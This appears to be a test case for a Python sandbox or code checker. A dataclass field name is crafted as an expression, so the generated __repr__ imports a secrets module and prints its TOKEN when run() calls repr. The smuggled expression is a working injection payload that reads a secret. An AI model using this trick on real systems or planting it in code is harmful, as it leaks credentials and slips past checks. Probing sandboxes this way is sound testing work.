#: channel = text-annotations
#: reaches = engine
#: layer = check
#: note = a dataclass field's name becomes source text of the generated __repr__

from dataclasses import dataclass


@dataclass(init=False, eq=False)
class Row:
    __annotations__ = {
        "x if print(__import__('engine.shared.secrets').shared.secrets.TOKEN) else 1": int
    }
    x = 1


async def run(context):
    return repr(Row())
